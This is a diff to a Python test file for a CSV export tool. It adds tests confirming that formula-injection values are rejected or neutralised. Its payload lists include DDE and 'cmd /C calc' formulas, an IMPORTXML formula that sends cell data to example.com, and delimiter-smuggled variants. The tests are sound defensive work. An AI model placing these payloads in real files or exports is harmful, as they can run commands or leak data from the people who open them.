@@ -16,6 +16,7 @@ import small_mart
 from small_mart import DAY, change
 
 from exports import writer
+from exports.files import write_for_a_person
 from exports.profiles import profile_names
 from exports.sync import acknowledge
 from exports.writer import export
@@ -323,3 +324,59 @@ def test_a_full_disk_is_named_and_leaves_nothing(
         export(warehouse, out, run_id="r1", as_of=DAY, profiles=NAMES)
     assert not [path for path in out.rglob("*") if path.is_file()]
     assert recorded(warehouse, "select count(*) from audit.exports") == [(0,)]
+
+
+INJECTIONS = [
+    *(f"{start}{rest}" for start in "=+-@" for rest in ("1+1", "cmd|' /C calc'!A0", "SUM(1,2)", 'HYPERLINK("x")')),
+    '=IMPORTXML("http://example.com/?v="&A1,"//a")',
+    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠A1",
+]
+HIDDEN = [
+    *(f"x{delimiter}=1+1" for delimiter in ",;|\t\n\r"),
+    'x";=1+1;"',
+    "x';=1+1",
+    " =1+1",
+    "\u00a0+1",
+    '"=1+1"',
+    "a\r\n@x",
+]
+"""What begins no cell for us, and may for a program that splits the line elsewhere."""
+
+
+def test_a_machine_file_refuses_the_rows_of_injections_by_name(warehouse: Path, out: Path) -> None:
+    small_mart.fill(warehouse, len(INJECTIONS) + 1)
+    for number, text in enumerate(INJECTIONS):
+        change(
+            warehouse,
+            f"update marts.rpt_account_health set account_name = ? where account_id = 'a{number:06d}'",
+            [text],
+        )
+    (report,) = export(warehouse, out, run_id="r1", as_of=DAY, profiles=["generic"])
+    assert [row["account_id"] for row in rows_of(report.folder)] == [f"a{len(INJECTIONS):06d}"]
+    lines = rejected_of(report.folder)
+    assert [line["account"] for line in lines] == [f"a{number:06d}" for number in range(len(INJECTIONS))]
+    assert {line["column"] for line in lines} == {"account_name"}
+    assert all(line["cell"].startswith("'") and line["name"].startswith("'") for line in lines)
+
+
+@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
+@pytest.mark.parametrize("quotes", [csv.QUOTE_MINIMAL, csv.QUOTE_NONE])
+def test_no_cell_of_a_file_for_a_person_starts_live(tmp_path: Path, delimiter: str, quotes: Any) -> None:
+    lines = [[text, f"before {text}", text] for text in [*INJECTIONS, *HIDDEN]]
+    write_for_a_person(tmp_path / "file.csv", ["a", "b", "c"], lines)
+    text = (tmp_path / "file.csv").read_bytes().decode("utf-8-sig")
+    cells = [
+        cell
+        for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, quoting=quotes)
+        for cell in line
+    ]
+    live = [cell for cell in cells if cell.strip().strip('"').startswith(tuple("=+-@＝＋－＠"))]
+    assert live == []
